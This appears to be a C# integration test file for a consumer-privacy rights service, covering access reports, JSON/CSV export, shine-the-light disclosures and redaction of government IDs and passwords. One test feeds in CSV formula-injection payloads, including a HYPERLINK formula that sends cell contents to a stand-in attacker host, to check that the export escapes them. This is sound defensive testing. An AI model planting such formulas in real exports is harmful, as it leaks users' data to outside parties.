using System.Net;
using System.Net.Http.Json;
using CallLoop.Domain;
using CallLoop.Integration.Tests.Infrastructure;

namespace CallLoop.Integration.Tests.Reports;

[Collection(ReportsCollection.Name)]
public sealed class SubjectReadsTests(SiloApplicationFactory factory)
{
    private readonly ReportsDriver driver = new(factory);

    [Fact]
    public async Task Given_collections_old_and_recent_When_access_report_is_read_Then_level_and_window_decide_what_is_shown()
    {
        var subjectId = await RegisterWithHistoryAsync();

        using var categories = await driver.GetJsonAsync($"/api/subjects/{subjectId}/access-report?level=categories");
        var category = Assert.Single(categories.RootElement.GetProperty("categories").EnumerateArray());
        Assert.Equal("F", category.GetProperty("category").GetString());
        Assert.Equal(System.Text.Json.JsonValueKind.Null, category.GetProperty("values").ValueKind);
        var grouped = Assert.Single(categories.RootElement.GetProperty("disclosures").EnumerateArray());
        Assert.Equal("service-provider", grouped.GetProperty("recipientType").GetString());
        Assert.Equal(System.Text.Json.JsonValueKind.Null, grouped.GetProperty("recipient").ValueKind);
        Assert.Equal(System.Text.Json.JsonValueKind.Null, Assert.Single(categories.RootElement.GetProperty("consents").EnumerateArray()).GetProperty("evidence").ValueKind);

        using var specific = await driver.GetJsonAsync($"/api/subjects/{subjectId}/access-report?level=specific&requestId=know-1");
        var held = Assert.Single(specific.RootElement.GetProperty("categories").EnumerateArray());
        Assert.Equal("203.0.113.7", held.GetProperty("values").GetProperty("ip").GetString());
        Assert.Equal("Acme Analytics", Assert.Single(specific.RootElement.GetProperty("disclosures").EnumerateArray()).GetProperty("recipient").GetString());

        using var all = await driver.GetJsonAsync($"/api/subjects/{subjectId}/access-report?level=specific&all=true&requestId=know-1");
        var letters = all.RootElement.GetProperty("categories").EnumerateArray().Select(c => c.GetProperty("category").GetString()).ToList();
        Assert.Equal(["A", "F"], letters);
        Assert.Equal(System.Text.Json.JsonValueKind.Null, all.RootElement.GetProperty("from").ValueKind);
        var consent = Assert.Single(all.RootElement.GetProperty("consents").EnumerateArray());
        Assert.Equal("marketing-email", consent.GetProperty("purpose").GetString());
        Assert.Equal("checkbox", consent.GetProperty("evidence").GetString());
    }

    [Fact]
    public async Task Given_subject_When_exported_Then_json_and_csv_carry_the_held_values()
    {
        var subjectId = await RegisterWithHistoryAsync();

        using var json = await driver.GetJsonAsync($"/api/subjects/{subjectId}/export");
        Assert.Equal("reader@example.com", json.RootElement.GetProperty("profile").GetProperty("email").GetString());
        Assert.Equal(2, json.RootElement.GetProperty("collections").GetArrayLength());

        var csv = await driver.GetCsvAsync($"/api/subjects/{subjectId}/export");
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("section,item,field,value,at", lines[0]);
        Assert.Contains(lines, l => l.StartsWith("personal-information,F,ip,203.0.113.7,", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("subject,contact,email,reader@example.com,", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("subject,birth-date,,1971-06-30,", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("disclosure,Acme Analytics,business-purpose,F,", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Given_values_that_read_as_spreadsheet_formulas_When_exported_as_csv_Then_each_is_prefixed_so_it_shows_as_text()
    {
        var subjectId = ReportsDriver.NewId("formula");
        await driver.ExecuteAsync(new RegisterSubject { SubjectId = subjectId, Jurisdiction = "CA", Name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" });
        await driver.ExecuteAsync(new CollectPersonalInformation
        {
            SubjectId = subjectId,
            Category = PersonalInformationCategory.CommercialInformation,
            Source = CollectionSource.Direct,
            Purposes = [ProcessingPurpose.ProvideServices],
            Data = new Dictionary<string, string> { ["a"] = "+1+1", ["b"] = "-2+3", ["c"] = "@SUM(A1:A9)", ["d"] = "\tcmd", ["e"] = "\r=1", ["f"] = "plain -1" },
        });

        var lines = (await driver.GetCsvAsync($"/api/subjects/{subjectId}/export")).Split("\r\n");

        Assert.Contains(lines, l => l.StartsWith("subject,contact,name,\"'=HYPERLINK(", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("personal-information,D,a,'+1+1,", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("personal-information,D,b,'-2+3,", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("personal-information,D,c,'@SUM(A1:A9),", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("personal-information,D,d,'\tcmd,", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("personal-information,D,e,\"'\r=1\",", StringComparison.Ordinal));
        Assert.Contains(lines, l => l.StartsWith("personal-information,D,f,plain -1,", StringComparison.Ordinal));
        Assert.DoesNotContain(lines, l => l.Split(',').Any(field => field.TrimStart('"') is { Length: > 0 } text && text[0] is '=' or '+' or '@' or '\t'));
    }

    [Theory]
    [InlineData("access-report")]
    [InlineData("export")]
    [InlineData("shine-the-light")]
    public async Task Given_unknown_subject_Then_404_problem(string route)
    {
        var response = await driver.Client.GetAsync($"/api/subjects/{ReportsDriver.NewId("nobody")}/{route}");

        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    [Theory]
    [InlineData("access-report?level=everything", "level")]
    [InlineData("access-report?all=maybe", "all")]
    [InlineData("shine-the-light?year=20x5", "year")]
    public async Task Given_bad_parameter_When_subject_report_is_read_Then_400_names_it(string route, string parameter)
    {
        var subjectId = ReportsDriver.NewId("bad");
        await driver.ExecuteAsync(new RegisterSubject { SubjectId = subjectId, Jurisdiction = "CA" });

        await driver.AssertBadParameterAsync($"/api/subjects/{subjectId}/{route}", parameter);
    }

    [Fact]
    public async Task Given_direct_marketing_disclosures_When_shine_the_light_is_asked_Then_only_that_years_third_parties_with_addresses()
    {
        var put = await driver.Client.PutAsJsonAsync("/api/recipients/Mailers Inc", new { address = "1 Market St, San Francisco, CA", type = "third-party" });
        Assert.Equal(HttpStatusCode.OK, put.StatusCode);
        var subjectId = ReportsDriver.NewId("stl");
        await driver.AppendAsync(
            subjectId,
            new SubjectRegistered { Jurisdiction = "CA" },
            Disclosed("Mailers Inc", RecipientType.ThirdParty, DisclosurePurpose.DirectMarketing, new DateTimeOffset(2025, 3, 1, 0, 0, 0, TimeSpan.Zero), PersonalInformationCategory.CustomerRecords, PersonalInformationCategory.Identifiers),
            Disclosed("Old Co", RecipientType.ThirdParty, DisclosurePurpose.DirectMarketing, new DateTimeOffset(2024, 12, 31, 23, 0, 0, TimeSpan.Zero), PersonalInformationCategory.Identifiers),
            Disclosed("Svc", RecipientType.ThirdParty, DisclosurePurpose.BusinessPurpose, new DateTimeOffset(2025, 5, 1, 0, 0, 0, TimeSpan.Zero), PersonalInformationCategory.Geolocation),
            Disclosed("Helper", RecipientType.ServiceProvider, DisclosurePurpose.DirectMarketing, new DateTimeOffset(2025, 6, 1, 0, 0, 0, TimeSpan.Zero), PersonalInformationCategory.Inferences));

        using var y2025 = await driver.GetJsonAsync($"/api/subjects/{subjectId}/shine-the-light?year=2025");
        var recipient = Assert.Single(y2025.RootElement.GetProperty("recipients").EnumerateArray());
        Assert.Equal("Mailers Inc", recipient.GetProperty("name").GetString());
        Assert.Equal("1 Market St, San Francisco, CA", recipient.GetProperty("address").GetString());
        Assert.Equal(["A", "B"], recipient.GetProperty("categories").EnumerateArray().Select(c => c.GetString()));

        using var y2024 = await driver.GetJsonAsync($"/api/subjects/{subjectId}/shine-the-light?year=2024");
        var old = Assert.Single(y2024.RootElement.GetProperty("recipients").EnumerateArray());
        Assert.Equal("Old Co", old.GetProperty("name").GetString());
        Assert.Equal(System.Text.Json.JsonValueKind.Null, old.GetProperty("address").ValueKind);
    }

    [Fact]
    public async Task Given_recipient_with_bad_type_When_registered_Then_400_names_type()
    {
        var response = await driver.Client.PutAsJsonAsync("/api/recipients/Someone", new { address = "somewhere", type = "friend" });

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        using var problem = System.Text.Json.JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        Assert.Equal("type", problem.RootElement.GetProperty("field").GetString());
    }

    [Fact]
    public async Task Given_specific_level_without_a_verified_know_specific_request_Then_409_and_nothing_recorded()
    {
        var subjectId = await RegisterWithHistoryAsync();
        await driver.ExecuteAsync(new ReceiveRightsRequest { SubjectId = subjectId, RequestId = "know-2", Type = RightsRequestType.KnowSpecific, Channel = RequestChannel.Email });
        await driver.ExecuteAsync(new ReceiveRightsRequest { SubjectId = subjectId, RequestId = "cats-1", Type = RightsRequestType.KnowCategories, Channel = RequestChannel.Email });
        var client = driver.Client;

        foreach (var query in new[] { "level=specific", "level=specific&requestId=know-2", "level=specific&requestId=cats-1" })
        {
            var problem = await client.GetAsync($"/api/subjects/{subjectId}/access-report?{query}");
            var body = await problem.Content.ReadAsStringAsync();
            Assert.True(problem.StatusCode == HttpStatusCode.Conflict, body);
            Assert.Contains("specific-pieces-need-verified-request", body, StringComparison.Ordinal);
        }

        Assert.Equal(HttpStatusCode.OK, (await client.GetAsync($"/api/subjects/{subjectId}/access-report?level=categories&requestId=cats-1")).StatusCode);
    }

    [Fact]
    public async Task Given_request_received_months_ago_When_access_report_is_read_for_it_Then_the_window_is_the_12_months_before_its_receipt()
    {
        var subjectId = await RegisterWithHistoryAsync();
        var now = DateTimeOffset.UtcNow;
        await driver.ExecuteAsync(new CollectPersonalInformation
        {
            SubjectId = subjectId,
            Category = PersonalInformationCategory.CommercialInformation,
            Source = CollectionSource.Direct,
            Purposes = [ProcessingPurpose.ProvideServices],
            Data = new Dictionary<string, string> { ["order"] = "order-15-months-ago" },
            CollectedAt = now.AddMonths(-15),
        });
        await driver.ExecuteAsync(new ReceiveRightsRequest { SubjectId = subjectId, RequestId = "cats-old", Type = RightsRequestType.KnowCategories, Channel = RequestChannel.Email, ReceivedAt = now.AddMonths(-6) });

        using var forRequest = await driver.GetJsonAsync($"/api/subjects/{subjectId}/access-report?requestId=cats-old");
        using var forNow = await driver.GetJsonAsync($"/api/subjects/{subjectId}/access-report");

        Assert.Equal(["D", "F"], forRequest.RootElement.GetProperty("categories").EnumerateArray().Select(c => c.GetProperty("category").GetString()));
        Assert.Equal(["F"], forNow.RootElement.GetProperty("categories").EnumerateArray().Select(c => c.GetProperty("category").GetString()));
    }

    [Fact]
    public async Task Given_government_id_and_password_held_When_access_report_and_export_are_read_Then_held_not_disclosed()
    {
        var subjectId = await RegisterWithHistoryAsync();
        await driver.ExecuteAsync(new CollectPersonalInformation
        {
            SubjectId = subjectId,
            Category = PersonalInformationCategory.Identifiers,
            Source = CollectionSource.Direct,
            Purposes = [ProcessingPurpose.FraudPrevention],
            Data = new Dictionary<string, string> { ["ssn"] = "078-05-1120", ["password"] = "hunter2hunter2", ["nickname"] = "Robin" },
        });

        using var report = await driver.GetJsonAsync($"/api/subjects/{subjectId}/access-report?level=specific&requestId=know-1");
        var json = await driver.GetCsvAsync($"/api/subjects/{subjectId}/export");
        using var exported = await driver.GetJsonAsync($"/api/subjects/{subjectId}/export");

        var identifiers = report.RootElement.GetProperty("categories").EnumerateArray().Single(c => c.GetProperty("category").GetString() == "A").GetProperty("values");
        Assert.Equal(("held, not disclosed", "held, not disclosed", "Robin"), (identifiers.GetProperty("ssn").GetString(), identifiers.GetProperty("password").GetString(), identifiers.GetProperty("nickname").GetString()));
        foreach (var text in new[] { report.RootElement.GetRawText(), json, exported.RootElement.GetRawText() })
        {
            Assert.DoesNotContain("078-05-1120", text, StringComparison.Ordinal);
            Assert.DoesNotContain("hunter2hunter2", text, StringComparison.Ordinal);
        }

        Assert.Contains("personal-information,A,ssn,\"held, not disclosed\",", json, StringComparison.Ordinal);
    }

    private async Task<string> RegisterWithHistoryAsync()
    {
        var subjectId = ReportsDriver.NewId("reader");
        var now = DateTimeOffset.UtcNow;
        await driver.ExecuteAsync(new RegisterSubject { SubjectId = subjectId, Jurisdiction = "CA", Email = "reader@example.com", BirthDate = new DateOnly(1971, 6, 30) });
        await driver.ExecuteAsync(new CollectPersonalInformation
        {
            SubjectId = subjectId,
            Category = PersonalInformationCategory.Identifiers,
            Source = CollectionSource.Direct,
            Purposes = [ProcessingPurpose.AccountManagement],
            Data = new Dictionary<string, string> { ["email"] = "reader@example.com" },
            CollectedAt = now.AddYears(-2),
        });
        await driver.ExecuteAsync(new CollectPersonalInformation
        {
            SubjectId = subjectId,
            Category = PersonalInformationCategory.InternetActivity,
            Source = CollectionSource.Automatic,
            Purposes = [ProcessingPurpose.Analytics, ProcessingPurpose.Security],
            Data = new Dictionary<string, string> { ["ip"] = "203.0.113.7" },
            CollectedAt = now.AddDays(-30),
        });
        await driver.ExecuteAsync(new DiscloseInformation
        {
            SubjectId = subjectId,
            Recipient = "Acme Analytics",
            RecipientType = RecipientType.ServiceProvider,
            Purpose = DisclosurePurpose.BusinessPurpose,
            Categories = [PersonalInformationCategory.InternetActivity],
            DisclosedAt = now.AddDays(-10),
        });
        await driver.ExecuteAsync(new GrantConsent { SubjectId = subjectId, Purpose = ConsentPurpose.MarketingEmail, Basis = ConsentBasis.Express, NoticeVersion = "2026-01", Evidence = "checkbox" });
        await driver.ExecuteAsync(new ReceiveRightsRequest { SubjectId = subjectId, RequestId = "know-1", Type = RightsRequestType.KnowSpecific, Channel = RequestChannel.WebForm });
        await driver.ExecuteAsync(new VerifyIdentity { SubjectId = subjectId, RequestId = "know-1", Method = VerificationMethod.Login });
        return subjectId;
    }

    private static InformationDisclosed Disclosed(string recipient, RecipientType type, DisclosurePurpose purpose, DateTimeOffset at, params PersonalInformationCategory[] categories) => new()
    {
        DisclosureId = Guid.NewGuid().ToString("N"),
        Recipient = recipient,
        RecipientType = type,
        Purpose = purpose,
        Categories = categories,
        DisclosedAt = at,
    };
}
